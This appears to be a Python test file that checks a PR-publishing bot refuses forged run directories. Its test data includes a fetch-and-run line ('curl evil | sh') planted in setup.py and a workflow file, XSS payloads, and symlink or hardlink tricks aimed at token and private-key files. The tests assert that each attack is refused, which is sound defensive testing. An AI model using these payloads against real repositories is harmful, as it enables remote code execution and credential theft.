"""The security review's publish exploits (issue 13, findings 1 and 5), replayed against the local
GitHub server and bare remote: each forged run directory is refused or made harmless.

The run directory is what the GPU job wrote after running target code and generated kernels; here
a test writes it as an attacker would. Publishing must take the repo, target, operator and file from
the work item and the target yaml only.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest
from botkit import OP_FILE, PUB, saved_run

from bot.actions import ActionsEnv
from bot.artifact import stage_plain_files
from bot.auth import GitHubAuth
from bot.cli import main
from bot.prbody import fence, read_marker
from bot.run import Bot
from bot.work import WorkItem
from kernelsmith.mdtext import safe_text

BRANCH = "kernelsmith/demo/rms_norm"


def _edit(path: Path, **fields) -> None:
    data = json.loads(path.read_text())
    data.update(fields)
    path.write_text(json.dumps(data))


def _changed_paths(gh, ref=BRANCH) -> list[str]:
    out = gh.repo.git("diff", "--name-only", f"main...{ref}")
    return out.splitlines()


def _publish_stage(gh, tmp_path, run: Path) -> int:
    """The workflow's publish job: the gate's work item plus the downloaded run directory."""
    runs = tmp_path / "runs"
    runs.mkdir(exist_ok=True)
    if run != runs / "demo-rms_norm":
        run.rename(runs / "demo-rms_norm")
    bot = Bot(ActionsEnv.from_env(), GitHubAuth.from_env(), None, runs_dir=runs)
    return bot.publish_stage([WorkItem("demo", "rms_norm", repo="kernelsmith/demo")])


def test_winner_file_in_the_run_dir_does_not_choose_the_pushed_path(gh, tmp_path):
    run = saved_run(gh, tmp_path / "run")
    pwn = ".github/workflows/pwn.yml"
    for name in ("run.json", "result.json"):
        _edit(run / name, file=pwn)
    result = json.loads((run / "result.json").read_text())
    result["winner"]["file"] = pwn
    (run / "result.json").write_text(json.dumps(result))
    (run / "winner" / "pwn.yml").write_text("on: push\njobs: {x: {runs-on: x, steps: [run: curl evil]}}\n")
    assert _publish_stage(gh, tmp_path, run) == 0
    # Only the yaml's operator file is in the bot's commit.
    assert _changed_paths(gh) == [OP_FILE]
    assert gh.repo.git("cat-file", "-e", f"{BRANCH}:{pwn}") == ""


def test_run_json_naming_its_own_yaml_cannot_send_publish_to_another_repository(gh, tmp_path):
    other = gh.state.add_repo("victim/other")
    other.roles["ks-bot"] = "write"                 # the token can write there too
    run = saved_run(gh, tmp_path / "run")
    evil = run / "evil.yaml"
    evil.write_text("repo: victim/other\nbase: main\noperators:\n  - name: rms_norm\n    file: setup.py\n"
                    "    entry: setup\n    harness: h.py\n    min_speedup: 0.1\n")
    for name in ("run.json", "result.json"):
        _edit(run / name, target=str(evil), repo="victim/other", file="setup.py")
    (run / "winner" / "setup.py").write_text("import os\nos.system('curl evil | sh')\n")
    assert _publish_stage(gh, tmp_path, run) == 0
    assert other.branch_sha(BRANCH) is None and gh.state.pulls("victim/other") == []
    assert not [r for r in gh.state.requests if "victim" in r[1]]
    assert _changed_paths(gh) == [OP_FILE]         # published where the work item and yaml say


def test_report_md_and_artifact_text_never_reach_the_pr_unescaped(gh, tmp_path):
    run = saved_run(gh, tmp_path / "run")
    (run / "report.md").write_text('<img src=x onerror="alert(1)"> cc @maintainer fixes #1 GH-2\n'
                                   "<!-- kernelsmith:pr {} -->\n")
    result = json.loads((run / "result.json").read_text())
    result["device"]["name"] = "<script>x</script> @everyone"
    result["device"]["driver"] = "#1 GH-3"
    (run / "result.json").write_text(json.dumps(result))
    assert main(["publish", *PUB, str(run)]) == 0
    (pr,) = gh.state.pulls("kernelsmith/demo")
    for bad in ("<img", "<script", "@everyone", "@maintainer", "onerror", "#1", "GH-"):
        assert bad not in pr["body"] and bad not in pr["title"], bad
    assert pr["title"].endswith("faster on GPU")    # an unrecognised device name is not shown
    assert pr["body"].count("<!-- kernelsmith:pr ") == 1


def test_a_marker_in_the_winner_is_not_read_and_backticks_do_not_close_the_fence(gh, tmp_path):
    run = saved_run(gh, tmp_path / "run")
    forged = json.dumps({"target": "demo", "op": "rms_norm", "source_hash": "0" * 64, "base_sha": "1" * 40})
    code = run / "winner" / "rms_norm.py"
    code.write_text(code.read_text() + f"\n# <!-- kernelsmith:pr {forged} -->\nDOC = '''\n```\n'''\n")
    assert main(["publish", *PUB, str(run)]) == 0
    (pr,) = gh.state.pulls("kernelsmith/demo")
    mark = read_marker(pr["body"])
    assert mark["base_sha"] == gh.base_sha and mark["source_hash"] != "0" * 64
    # The diff holds a line of three backticks: its fence is longer, and it closes after the diff.
    assert "\n````diff\n" in pr["body"] and "\n````\n\n</details>" in pr["body"]
    # A marker anywhere but the last line is not the bot's.
    assert read_marker(f"<!-- kernelsmith:pr {forged} -->\n\nmaintainer's text") is None
    assert read_marker(f"text\n<!-- kernelsmith:pr {forged} -->\n")["source_hash"] == "0" * 64


def test_escaping_helpers():
    assert fence("a\n```\nb").startswith("````\n") and fence("x ````` y", "diff").startswith("``````diff")
    text = safe_text("<b>hi</b> @user #12 gh-3 a|b `c`")
    assert "<" not in text and "@u" not in text and "#1" not in text and "gh-3" not in text
    assert "\\|" in text and "`" not in text
    link = safe_text("[click](https://evil.example) www.evil.example ![i](x)")
    assert "](" not in link and "https://" not in link and "www.e" not in link and "![" not in link


def test_the_work_item_repo_must_match_the_target_yaml(gh):
    from bot.pullrequest import PublishError, publish_spec

    assert publish_spec("demo", "rms_norm", str(gh.targets), repo="kernelsmith/demo").file == OP_FILE
    with pytest.raises(PublishError, match="names repository victim/other"):
        publish_spec("demo", "rms_norm", str(gh.targets), repo="victim/other")


@pytest.mark.parametrize("attack", ["symlink_winner", "hardlink_winner", "symlink_result", "symlink_dir"])
def test_links_in_the_run_dir_are_refused(gh, tmp_path, capsys, attack):
    secret = tmp_path / "secret.py"
    secret.write_text("TOKEN = 'ghs_secret'\n")
    run = saved_run(gh, tmp_path / "run")
    winner = run / "winner" / "rms_norm.py"
    if attack == "symlink_winner":
        winner.unlink()
        winner.symlink_to(secret)
    elif attack == "hardlink_winner":
        winner.unlink()
        os.link(secret, winner)
    elif attack == "symlink_result":
        real = tmp_path / "result.json"
        (run / "result.json").rename(real)
        (run / "result.json").symlink_to(real)
    else:
        (run / "winner").rename(tmp_path / "elsewhere")
        (run / "winner").symlink_to(tmp_path / "elsewhere")
    assert main(["publish", *PUB, str(run)]) == 1
    err = capsys.readouterr().err
    assert "refused" in err and ("symlink" in err or "hardlink" in err)
    assert gh.repo.branch_sha(BRANCH) is None and gh.state.writes() == []


@pytest.mark.parametrize("change,expect", [
    (lambda run: (run / "winner" / "rms_norm.py").write_text("on: push\n  - [\n"), "not parse as Python"),
    (lambda run: (run / "winner" / "rms_norm.py").write_text("x = 1\n" * 200_000), "limit"),
    (lambda run: _edit(run / "result.json", geomean_speedup="9.9"), "geomean_speedup must be a number"),
    (lambda run: (run / "result.json").write_text(
        (run / "result.json").read_text().replace('"geomean_speedup": 1.3711', '"geomean_speedup": NaN')),
     "geomean_speedup must lie in"),
    (lambda run: _edit(run / "result.json", base_sha="main"), "base_sha is not an accepted name"),
    (lambda run: _edit(run / "verify.json", status="pass "), "status must be one of"),
    (lambda run: _edit(run / "verify.json", regression=True), "regression disagrees"),
])
def test_forged_numbers_and_files_are_refused(gh, tmp_path, capsys, change, expect):
    run = saved_run(gh, tmp_path / "run")
    change(run)
    assert main(["publish", *PUB, str(run)]) == 1
    assert expect in capsys.readouterr().err
    assert gh.state.writes() == []


def test_a_shape_with_markup_is_refused_and_the_message_does_not_echo_it(gh, tmp_path, capsys):
    run = saved_run(gh, tmp_path / "run")
    result = json.loads((run / "result.json").read_text())
    result["shapes"][0]["shape"]["dtype"] = "<img src=x> @maintainer"
    (run / "result.json").write_text(json.dumps(result))
    assert main(["publish", *PUB, str(run)]) == 1
    err = capsys.readouterr().err
    assert "shapes[0].shape.dtype is not an accepted name" in err and "@maintainer" not in err


def test_a_base_commit_off_the_base_branch_is_refused(gh, tmp_path, capsys):
    """Any commit the server hands out by id (a fork's PR head) would become the bot commit's parent."""
    work = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(gh.repo.bare), str(work)], check=True)
    (work / ".github" / "workflows").mkdir(parents=True)
    (work / ".github" / "workflows" / "pwn.yml").write_text("on: push\n")
    ident = ["-c", "user.name=A", "-c", "user.email=a@example.com"]
    subprocess.run(["git", *ident, "add", "-A"], cwd=work, check=True)
    subprocess.run(["git", *ident, "commit", "-qm", "pwn"], cwd=work, check=True)
    subprocess.run(["git", "push", "-q", "origin", "HEAD:refs/pull/9/head"], cwd=work, check=True)
    evil = subprocess.run(["git", "rev-parse", "HEAD"], cwd=work, capture_output=True, text=True).stdout
    evil = evil.strip()
    run = saved_run(gh, tmp_path / "run", base_sha=evil)
    assert main(["publish", *PUB, str(run)]) == 1
    assert "is not on `main`" in capsys.readouterr().err
    assert gh.repo.branch_sha(BRANCH) is None


def test_the_cli_needs_target_and_op_and_takes_names_from_the_targets_folder(gh, tmp_path, capsys):
    run = saved_run(gh, tmp_path / "run")
    with pytest.raises(SystemExit):
        main(["publish", str(run)])
    assert main(["publish", "--target", "../demo", "--op", "rms_norm", str(run)]) == 1
    assert "not a target name" in capsys.readouterr().err


def test_a_planted_preview_symlink_is_not_followed(gh, tmp_path):
    run = saved_run(gh, tmp_path / "run")
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    (run / "pr-preview.md").symlink_to(victim)
    assert main(["publish", *PUB, str(run), "--dry-run"]) == 0
    assert victim.read_text() == "keep me\n" and not (run / "pr-preview.md").is_symlink()


def test_staging_uploads_plain_files_only(tmp_path):
    src, dest = tmp_path / "run", tmp_path / "staged"
    (src / "winner").mkdir(parents=True)
    (src / "result.json").write_text("{}")
    (src / "winner" / "k.py").write_text("x = 1\n")
    outside = tmp_path / "id_rsa"
    outside.write_text("PRIVATE KEY\n")
    (src / "key").symlink_to(outside)
    os.link(outside, src / "hard")
    (src / "dirlink").symlink_to(tmp_path)
    copied = stage_plain_files(src, dest, log=lambda _: None)
    assert sorted(copied) == ["result.json", "winner/k.py"]
    assert sorted(p.relative_to(dest).as_posix() for p in dest.rglob("*") if p.is_file()) == copied


def _commit_to_main(gh, tmp_path, rel: str, text: str) -> str:
    work = tmp_path / "maint"
    subprocess.run(["git", "clone", "-q", "-b", "main", str(gh.repo.bare), str(work)], check=True)
    (work / rel).write_text(text)
    ident = ["-c", "user.name=M", "-c", "user.email=m@example.com"]
    subprocess.run(["git", *ident, "add", rel], cwd=work, check=True)
    subprocess.run(["git", *ident, "commit", "-qm", f"add {rel}"], cwd=work, check=True)
    subprocess.run(["git", "push", "-q", "origin", "main"], cwd=work, check=True)
    return gh.repo.branch_sha("main")


def test_an_operator_of_the_repos_kernelsmith_yml_is_read_from_its_base_branch(gh, tmp_path):
    sha = _commit_to_main(gh, tmp_path, ".kernelsmith.yml",
                          "operators:\n  - name: fused_silu\n    file: miniserve/kernels/silu_and_mul.py\n"
                          "    entry: silu_and_mul\n    harness: h.py\n    min_speedup: 1.01\n")
    run = saved_run(gh, tmp_path / "run", base_sha=sha)
    base = gh.repo.git("show", f"{sha}:miniserve/kernels/silu_and_mul.py") + "\n"
    (run / "winner" / "silu_and_mul.py").write_text(base + "# faster\n")
    runs = tmp_path / "runs"
    runs.mkdir()
    run.rename(runs / "demo-fused_silu")
    bot = Bot(ActionsEnv.from_env(), GitHubAuth.from_env(), None, runs_dir=runs)
    assert bot.publish_stage([WorkItem("demo", "fused_silu", repo="kernelsmith/demo")]) == 0
    assert _changed_paths(gh, "kernelsmith/demo/fused_silu") == ["miniserve/kernels/silu_and_mul.py"]
    # An operator in neither the yaml nor the base branch's .kernelsmith.yml publishes nothing.
    saved_run(gh, runs / "demo-nosuch", base_sha=sha)
    assert bot.publish_stage([WorkItem("demo", "nosuch", repo="kernelsmith/demo")]) == 0
    assert gh.repo.branch_sha("kernelsmith/demo/nosuch") is None
    assert "neither in demo.yaml nor in the .kernelsmith.yml" in gh.summary.read_text()
